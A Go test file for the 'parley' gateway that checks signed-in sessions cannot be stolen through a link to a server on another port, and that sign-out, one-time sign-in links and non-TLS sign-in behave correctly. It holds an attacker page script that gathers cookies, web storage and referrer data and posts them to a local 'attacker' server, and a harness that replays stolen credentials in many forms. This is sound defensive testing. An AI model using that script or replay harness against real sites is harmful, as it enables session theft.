package gateway

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"github.com/coder/websocket"

	"parley"
	"parley/actors"
	"parley/events"
	"parley/gateway/api"
	"parley/gateway/web"
	"parley/gateway/ws"
)

// attackerServer is a server on another port of the host. It records all requests, and its page sends back all that a
// browser reveals about the session.
type attackerServer struct {
	mu   sync.Mutex
	got  []string // every header and address
	urls []string
}

// attackerPage sends the server everything that a script can read about the page before it.
const attackerPage = `<!doctype html><title>Attacker</title><script>
const found = [document.referrer, String(opener), document.cookie, name, JSON.stringify(localStorage), JSON.stringify(sessionStorage), String(history.length),
  ...performance.getEntriesByType('navigation').map((e) => JSON.stringify(e)), String(globalThis.navigation?.activation?.from?.url)];
fetch('/found', { method: 'POST', body: found.join('\n') }).then(() => { document.documentElement.dataset.done = 'yes' });
</script>`

func (f *attackerServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	if err != nil {
		return
	}
	var head strings.Builder
	_ = r.Header.Write(&head) // to memory
	f.mu.Lock()
	f.got = append(f.got, r.Host+" "+r.RequestURI+"\n"+head.String()+string(body))
	f.urls = append(f.urls, r.URL.Path)
	f.mu.Unlock()
	w.Header().Set("Content-Type", "text/html")
	w.Header().Set("Set-Cookie", SessionCookie+"=of-the-attacker; Path=/") // cookies of one port reach all ports
	_, _ = io.WriteString(w, attackerPage)                                 // the client may have gone away
}

func (f *attackerServer) all() string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return strings.Join(f.got, "\n")
}

// TestLinkToAnotherPortRevealsNoSession has the host, who is signed in, follow a link in a guest's form to a server of
// the guest's on another port. What that is sent gets it nowhere.
func TestLinkToAnotherPortRevealsNoSession(t *testing.T) {
	t.Parallel()
	h := openPageServer(t)
	_, port, _ := strings.Cut(h.server.Address(), ":")
	link := func() string {
		code, err := h.server.backend.NewLink(h.node.Host())
		if err != nil {
			t.Fatal(err)
		}
		return "http://127.0.0.1:" + port + web.SignInPath + "?code=" + code
	}
	robber := &attackerServer{}
	other := httptest.NewServer(robber)
	t.Cleanup(func() { other.CloseClientConnections(); other.Close() })
	_, its, _ := strings.Cut(strings.TrimPrefix(other.URL, "http://"), ":")
	h.ask(parley.Form{Title: "A port", Description: fmt.Sprintf("See [here](http://127.0.0.1:%s/by-address), [there](http://localhost:%s/by-name) and [yonder](http://127.0.0.1:%s/s/)", its, its, its),
		Fields: []events.Field{{Name: "a"}}})
	h.token = ""
	b := h.openBrowser()
	b.do(chromedp.Navigate(link()))
	b.click("main button")
	b.do(chromedp.WaitReady("html[data-live]"))
	home := b.text(`location.href`)
	cookie, key := h.sessionOf(b)
	if !strings.Contains(home, web.SessionsPath+key+"/") {
		t.Fatalf("the page is at %s", home)
	}
	for _, path := range []string{"/by-address", "/by-name", "/s/"} {
		b.do(chromedp.Navigate(home), chromedp.WaitReady("html[data-live]"))
		b.until(fmt.Sprintf(`document.querySelector('a[href$=%q]')`, path))
		b.run(fmt.Sprintf(`{ const a = document.querySelector('a[href$=%q]'); a.target = '_self'; a.rel = 'opener'; a.click(); }`, path)) // the worst that it could be
		b.do(chromedp.WaitReady(chromedp.CSS("html[data-done]")))
	}
	sent := robber.all()
	if !strings.Contains(sent, "/by-address") || !strings.Contains(sent, "/by-name") || strings.Count(sent, "/found") != 3 {
		t.Fatalf("the browser did not come: %s", sent)
	}
	secret := cookie[len("pls_")+52:]
	for what, s := range map[string]string{"cookie": cookie, "secret": secret, "key": key} {
		if strings.Contains(sent, s) {
			t.Errorf("it was sent the %s:\n%s", what, sent)
		}
	}
	b.do(chromedp.Navigate(home), chromedp.WaitReady("html[data-live]")) // and its cookie keeps nobody out
	b.checkNoFaults()

	// If it had one half all the same, by whatever means, that would be of no use.
	for what, try := range map[string]replay{
		"the cookie":                {cookie: cookie},
		"the cookie and no key":     {cookie: cookie, at: web.SessionsPath + "/"},
		"the cookie, a wrong key":   {cookie: cookie, at: web.SessionsPath + "AAAAAAAAAAAAAAAAAAAAAAAAAA"},
		"the key":                   {at: web.SessionsPath + key},
		"the key as a cookie":       {cookie: key, at: web.SessionsPath + key},
		"the cookie as a token":     {bearer: cookie},
		"the cookie as a token too": {bearer: cookie, cookie: cookie, at: web.SessionsPath + key},
		"the secret as a token":     {bearer: "ply_" + cookie[4:]},
		"the cookie in a query":     {query: "?token=" + cookie + "&access_token=" + cookie + "&" + SessionCookie + "=" + cookie},
		"the cookie as a protocol":  {protocol: ws.BearerProtocol + cookie},
		"the key as a protocol":     {protocol: ws.BearerProtocol + key, cookie: cookie},
	} {
		for _, got := range try.everywhere(t, h.server.Address()) {
			if got.status != http.StatusUnauthorized {
				t.Errorf("with %s, %s: %d", what, got.what, got.status)
			}
		}
	}
	for _, got := range (replay{cookie: cookie, at: web.SessionsPath + key}).everywhere(t, h.server.Address()) { // shows that the requests above were well-formed
		if got.status == http.StatusUnauthorized && got.what != "POST /mcp" {
			t.Errorf("with both halves, %s: %d", got.what, got.status)
		}
	}
}

// sessionOf returns the cookie and the key of a tab's session.
func (h *pageServer) sessionOf(b *tab) (cookie, key string) {
	h.t.Helper()
	_, behind, _ := strings.Cut(b.text(`location.pathname`), web.SessionsPath)
	key, _, _ = strings.Cut(behind, "/")
	all, err := chromedp.Call(b.ctx, network.GetCookies, network.GetCookiesParams{URLs: []string{"http://" + h.server.Address() + web.SessionsPath + key + "/"}})
	if err != nil {
		h.t.Fatal(err)
	}
	for _, c := range all.Cookies {
		if c.Name == SessionCookie && c.Path == web.SessionsPath+key {
			return c.Value, key
		}
	}
	h.t.Fatalf("there is no session: %v", all.Cookies)
	return "", ""
}

// replay has the credentials of a client that is no browser and may send any header.
type replay struct{ cookie, bearer, protocol, query, at string }

type replayed struct {
	what   string
	status int
}

// everywhere sends the credentials to every kind of address.
func (p replay) everywhere(t *testing.T, address string) (all []replayed) {
	t.Helper()
	for _, what := range []string{
		"GET /", "GET /questions", "GET /agents", "GET /forms/0", "GET " + web.EventsPath, "GET " + api.OpenAPIPath, "GET " + metricsPath, "GET " + web.SignOutPath,
		"POST /rpc/status", "POST /rpc/create_token", "POST /rpc/send", "POST /forms/0", "POST " + toolsPath, "GET " + api.WebSocketPath,
	} {
		method, path, _ := strings.Cut(what, " ")
		conn, err := net.DialTimeout("tcp", address, 5*time.Second)
		if err != nil {
			t.Fatal(err)
		}
		_ = conn.SetDeadline(time.Now().Add(10 * time.Second)) // else reading fails too
		fmt.Fprintf(conn, "%s %s%s%s HTTP/1.1\r\nHost: %s\r\nOrigin: http://%s\r\nSec-Fetch-Site: same-origin\r\nSec-Fetch-Mode: cors\r\nReferer: http://%s/\r\n",
			method, p.at, path, p.query, address, address, address)
		if p.cookie != "" {
			fmt.Fprintf(conn, "Cookie: %s=%s\r\n", SessionCookie, p.cookie)
		}
		if p.bearer != "" {
			fmt.Fprintf(conn, "Authorization: Bearer %s\r\n", p.bearer)
		}
		if path == api.WebSocketPath {
			fmt.Fprintf(conn, "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n")
		}
		if p.protocol != "" {
			fmt.Fprintf(conn, "Sec-WebSocket-Protocol: %s\r\n", p.protocol)
		}
		body := ""
		if method == http.MethodPost {
			body = `{}`
			fmt.Fprintf(conn, "Content-Type: application/json\r\n")
		}
		fmt.Fprintf(conn, "Content-Length: %d\r\n\r\n%s", len(body), body)
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		all = append(all, replayed{what, resp.StatusCode})
		_ = conn.Close() // a stream goes on for ever
	}
	return all
}

// TestSignedInBrowserFollowsPlainLinks: an agent's program knows the address of a form, and not of the session.
func TestSignedInBrowserFollowsPlainLinks(t *testing.T) {
	t.Parallel()
	h := openPageServer(t)
	asked := h.ask(parley.Form{Description: "Which port?", Fields: []events.Field{{Name: "a"}}})
	b := h.openBrowser()
	b.open("/agents")
	b.do(chromedp.Navigate("http://"+h.server.Address()+web.FormsPath+asked.Form.String()+"?as=#top"), chromedp.WaitReady("html[data-live]"))
	if got, want := b.text(`location.href`), h.url+web.FormsPath+asked.Form.String()+"?as=#top"; got != want {
		t.Errorf("it is at %s, want %s", got, want)
	}
	if err := h.node.Host().Tokens().Revoke(t.Context(), h.in[h.token].ID); err != nil {
		t.Fatal(err)
	}
	for range 2 { // and goes round in no circle when the session has ended
		b.do(chromedp.Navigate("http://" + h.server.Address() + "/questions"))
		b.reads("main code", "parley open")
	}
	b.checkNoFaults()
}

// TestSignOutEndsOpenStreams: the page, its stream and the connections of its session end at once, in every tab.
func TestSignOutEndsOpenStreams(t *testing.T) {
	t.Parallel()
	h := openPageServer(t)
	b := h.openBrowser()
	b.open("/mail")
	b.live()
	elsewhere, err := h.node.Host().Tokens().MakeSession(t.Context(), "another browser")
	if err != nil {
		t.Fatal(err)
	}
	open := func(in actors.Session) *websocket.Conn {
		t.Helper()
		conn, _, err := websocket.Dial(t.Context(), "ws://"+h.server.Address()+web.SessionsPath+in.Key+api.WebSocketPath, &websocket.DialOptions{
			HTTPHeader: http.Header{"Cookie": {SessionCookie + "=" + in.Text}},
		})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = conn.CloseNow() })
		return conn
	}
	own, others := open(h.in[h.token]), open(elsewhere)
	second := h.tab(b.ctx)
	second.do(chromedp.Navigate(h.url + web.SignOutPath))
	second.reads("h1", "Sign out")
	second.click("form button")
	second.do(chromedp.WaitReady("main:not(:has(button)) code"))
	b.reads("#connection", "Signed out")
	b.reads("#offline", "Signed out: run parley open") // and where a narrow window has no rail
	b.do(chromedp.EmulateViewport(1280, 800))
	b.until(`((words, icons) => icons.every((i) => { const r = i.getBoundingClientRect(); return !r.width || r.left >= words.right || r.top >= words.bottom; }))
		(document.getElementById("connection").getBoundingClientRect(), [...document.querySelectorAll(".foot .icon")])`)
	k := &wsClient{t, own}
	if got := k.closeStatus(); got != websocket.StatusPolicyViolation {
		t.Errorf("its connection ends with %v", got)
	}
	signedIn := func() int {
		t.Helper()
		all, err := h.node.Host().Tokens().List(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		for _, t := range all {
			if t.Session {
				n++
			}
		}
		return n
	}
	if got := signedIn(); got != 1 { // the other browser's
		t.Errorf("%d sessions are left", got)
	}
	delete(h.in, h.token)
	last := h.tab(b.ctx)
	last.do(chromedp.Navigate(h.url + web.SignOutPath))
	last.click("button[name=everywhere]")
	last.do(chromedp.WaitReady("main:not(:has(button)) code"))
	if got := (&wsClient{t, others}).closeStatus(); got != websocket.StatusPolicyViolation {
		t.Errorf("the other's connection ends with %v", got)
	}
	if got := signedIn(); got != 0 {
		t.Errorf("%d sessions are left", got)
	}
	last.checkNoFaults()
}

func TestSignInLinkWorksOnce(t *testing.T) {
	t.Parallel()
	h := openPageServer(t)
	code, err := h.server.backend.NewLink(h.node.Host())
	if err != nil {
		t.Fatal(err)
	}
	h.token = "" // the tab begins without a session
	b := h.openBrowser()
	b.do(chromedp.Navigate(b.url + "/"))
	b.reads("main code", "parley open")
	link := b.url + web.SignInPath + "?code=" + code
	for _, then := range []string{"html[data-live]", "main:not(:has(button)) code"} {
		b.do(chromedp.Navigate(link))
		b.until(`document.querySelector('main button')`)
		if got := b.text(`getComputedStyle(document.querySelector('main button')).borderRadius`); got != "10px" {
			t.Errorf("the button is not styled: %s", got)
		}
		b.click("main button")
		b.do(chromedp.WaitReady(chromedp.CSS(then)))
	}
	b.reads("h1", "This link has expired")
	b.checkNoFaults()
}

// A browser says less of whose page sends something where the way is not protected, and the node is beyond its machine.
func TestSignInWorksWithoutTLS(t *testing.T) {
	t.Parallel()
	h := openPageServer(t)
	const name = "parley.test"
	_, port, _ := strings.Cut(h.server.Address(), ":")
	h.server.listens, h.url = name+":"+port, "http://"+name+":"+port // before anybody is there
	code, err := h.server.backend.NewLink(h.node.Host())
	if err != nil {
		t.Fatal(err)
	}
	h.token = ""
	b := h.openBrowser(chromedp.Flag("host-resolver-rules", "MAP "+name+" 127.0.0.1"))
	b.do(chromedp.Navigate(b.url + web.SignInPath + "?code=" + code))
	b.click("main button")
	b.do(chromedp.WaitReady("html[data-live]"))
	b.checkNoFaults()
}
